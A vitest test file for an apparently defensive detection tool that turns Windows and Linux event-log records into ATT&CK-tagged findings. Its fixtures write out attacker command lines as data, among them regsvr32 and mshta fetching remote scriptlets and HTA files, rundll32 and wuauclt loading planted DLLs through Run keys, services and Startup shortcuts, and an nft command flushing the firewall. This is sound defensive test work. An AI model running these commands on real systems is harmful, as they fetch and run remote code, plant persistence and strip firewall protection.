import { describe, expect, it } from "vitest";
import { anEvent, aStart } from "../../test/support/events.ts";
import { findingsOf } from "../../test/support/findings.ts";
import { fromPlain, toPlain } from "../events/plain.ts";
import type { Event } from "../model/event.ts";

const S32 = "C:\\Windows\\System32\\";

describe("one finding for one process start", () => {
  it("names payload, technique and source", () => {
    const start = aStart(0, "A", `${S32}regsvr32.exe`, "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll");
    const [finding, ...rest] = findingsOf([start]);
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({
      schema: "whatran/finding/1",
      time: "2024-05-02T09:00:00.000Z",
      host: "PC1",
      binary: { name: "regsvr32.exe" },
      behaviour: "windows/regsvr32/scriptlet",
      techniques: ["T1218.010"],
      runs: [{ what: "scriptlet", where: "web", value: "http://files.example.net/a.sct", remote: true }],
      source: { file: "log.evtx", index: start.record.index },
    });
    expect(["high", "critical"]).toContain(finding?.level);
  });

  it("keeps its id wherever the file lies, and does not give it to another process", () => {
    const line = "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll";
    const a = aStart(0, "A", `${S32}regsvr32.exe`, line);
    const plain = toPlain(a);
    const moved = fromPlain({ ...plain, record: { ...plain.record, file: "/elsewhere/log.evtx" } });
    const b = aStart(0, "B", `${S32}regsvr32.exe`, line);
    expect(findingsOf([a])[0]?.id).toBe(findingsOf([moved])[0]?.id);
    expect(findingsOf([a])[0]?.id).not.toBe(findingsOf([b])[0]?.id);
  });

  it("is silent about a log without arguments", () => {
    expect(
      findingsOf([
        anEvent("processCreation", 0, {
          image: `${S32}rundll32.exe`,
          process: { pid: 4, image: `${S32}rundll32.exe` },
        }),
      ]),
    ).toEqual([]);
  });

  it("takes the same start from a second source as the same", () => {
    const image = `${S32}regsvr32.exe`;
    const line = "regsvr32 /s C:\\ProgramData\\a.dll";
    const sysmon = aStart(0, "A", image, line);
    const security = anEvent(
      "processCreation",
      0.4,
      { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
      { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 },
    );
    const findings = findingsOf([sysmon, security]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: security.record.index, role: "same" })]);
  });

  it("prefers the source that names the original file, whichever comes first", () => {
    const image = "C:\\Users\\Public\\chat.exe";
    const line = "chat /s C:\\ProgramData\\a.dll";
    const provider = { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 };
    const security = anEvent(
      "processCreation",
      0,
      { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
      provider,
    );
    const sysmon = aStart(0.4, "A", image, line, "?", { originalFileName: "REGSVR32.EXE" });
    const findings = findingsOf([security, sysmon]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      source: { index: sysmon.record.index },
      related: [{ index: security.record.index, role: "same" }],
    });
  });
});

it("tells once what one record says twice", () => {
  const line = "mshta.exe http://203.0.113.5/x.hta";
  const path = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
  const write = anEvent("registryKeyModification", 0, {
    path,
    value: line,
    action: "setValue",
    process: { key: "id:R" },
  });
  const record = { index: write.record.index, recordId: write.record.recordId };
  const entry = anEvent(
    "runKey",
    0,
    { path, name: "x", commandLine: line, dialect: "commandLine", process: {} },
    record,
  );
  expect(findingsOf([write, entry])).toHaveLength(1);
});

describe("effects of a binary whose start is not logged", () => {
  const process = { key: "id:Z", pid: 9, image: `${S32}regsvr32.exe` };
  const path = "HKLM\\Software\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)";
  const write = (value: string) => anEvent("registryKeyModification", 0, { process, path, action: "setValue", value });
  it("are a finding where the library lies in an odd place, once", () => {
    const findings = findingsOf([write("D:\\drop\\a.dll"), write("D:\\drop\\a.dll")], { minLevel: "medium" });
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      behaviour: "windows/regsvr32/register",
      runs: [{ value: "D:\\drop\\a.dll", what: "library" }],
    });
  });
  it("are none where software is installed, or where the start is known", () => {
    expect(findingsOf([write("C:\\Program Files\\V\\a.dll")])).toEqual([]);
    const start = aStart(0, "Z", `${S32}regsvr32.exe`, "regsvr32 /s D:\\drop\\a.dll");
    expect(findingsOf([start, write("D:\\drop\\a.dll")])).toHaveLength(1);
  });
});

describe("corroboration", () => {
  const dll = "C:\\ProgramData\\a.dll";
  const start = () => aStart(10, "A", `${S32}regsvr32.exe`, `regsvr32 /s ${dll}`);
  const process = { key: "id:A", image: `${S32}regsvr32.exe` };
  const ids = (events: readonly Event[]) => findingsOf(events)[0]?.evidence.map(({ id }) => id);

  it("sees the payload loaded, and that it is not signed", () => {
    const load = (signed: boolean) =>
      anEvent("moduleLoad", 11, {
        process,
        module: dll,
        signature: { signed, status: signed ? "Valid" : "Unavailable" },
      });
    expect(ids([start(), load(false)])).toContain("payload-loaded-unsigned");
    expect(ids([start(), load(true)])).toContain("payload-loaded-signed");
    const other = anEvent("moduleLoad", 11, { process, module: `${S32}kernel32.dll` });
    expect(ids([start(), other])?.filter((id) => id.startsWith("payload-"))).toEqual([]);
  });

  it("sees who dropped the payload shortly before", () => {
    const drop = (at: number) =>
      anEvent("fileCreation", at, {
        path: dll,
        action: "create",
        process: { key: "id:W", image: "C:\\Office\\winword.exe" },
      });
    expect(ids([drop(-30), start()])).toContain("payload-dropped");
    expect(ids([drop(-4000), start()])).not.toContain("payload-dropped");
  });

  it("takes back that a use is documented where no such use goes on like this", () => {
    const image = `${S32}InfDefaultInstall.exe`;
    const explorer = { parent: { key: "id:X", pid: 88, image: "C:\\Windows\\explorer.exe" } };
    const install = aStart(0, "I", image, "InfDefaultInstall.exe C:\\Users\\a\\Downloads\\d\\a.inf", "X", explorer);
    const script = anEvent("moduleLoad", 1, { process: { key: "id:I", image }, module: `${S32}scrobj.dll` });
    expect(findingsOf([install], { minLevel: "medium" })).toEqual([]);
    expect(findingsOf([install, script], { minLevel: "medium" })).toHaveLength(1);
  });

  it("sees connections to the outside only", () => {
    const to = (destinationIp: string) => anEvent("networkConnection", 12, { process, initiated: true, destinationIp });
    expect(ids([start(), to("203.0.113.9")])).toContain("external-connection");
    expect(ids([start(), to("10.1.2.3")])).not.toContain("external-connection");
  });
});

it("weighs what a service runs as it stops less than what it runs as it starts", () => {
  const job = (trigger: string) =>
    anEvent("scheduledTask", 0, {
      name: "filter.service",
      commandLine: "/usr/sbin/nft flush ruleset",
      dialect: "sh",
      platform: "linux",
      trigger,
    });
  const [[atStart], [atStop]] = [findingsOf([job("multi-user.target")]), findingsOf([job("when stopped")])];
  expect([atStart?.level, atStop?.level]).toEqual(["medium", "low"]);
  expect(atStop?.evidence.map(({ text }) => text)).toContain("A service named filter.service runs it as it stops.");
});

it("finds the Lazarus Group's shortcut: wuauclt with a library, in a Startup folder", () => {
  const path =
    "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\WindowsUpdateConf.lnk";
  const shortcut = anEvent("shortcut", 0, {
    path,
    target: `${S32}wuauclt.exe`,
    arguments: "/UpdateDeploymentProvider C:\\Wíndows\\system32\\wuaueng.dll /RunHandlerComServer",
    startup: true,
    oddities: [],
  });
  const [finding] = findingsOf([shortcut]);
  expect(finding).toMatchObject({ behaviour: "windows/wuauclt/load-library", dataComponents: ["File Metadata"] });
  expect(finding?.evidence.map(({ id }) => id)).toContain("persistence");
  expect(["high", "critical"]).toContain(finding?.level);
});

it("tells of a service once, however late a copy of its record comes", () => {
  const service = (file: string) =>
    anEvent(
      "registryKeyModification",
      0,
      {
        path: "HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath",
        action: "setValue",
        value: "rundll32.exe C:\\ProgramData\\a.dll,Go",
      },
      { file, recordId: 7 },
    );
  const later = anEvent("fileCreation", 4000, { path: "C:\\a.txt", action: "create", process: { key: "id:W" } });
  expect(findingsOf([service("a.evtx"), later, service("b.evtx")])).toHaveLength(1);
});
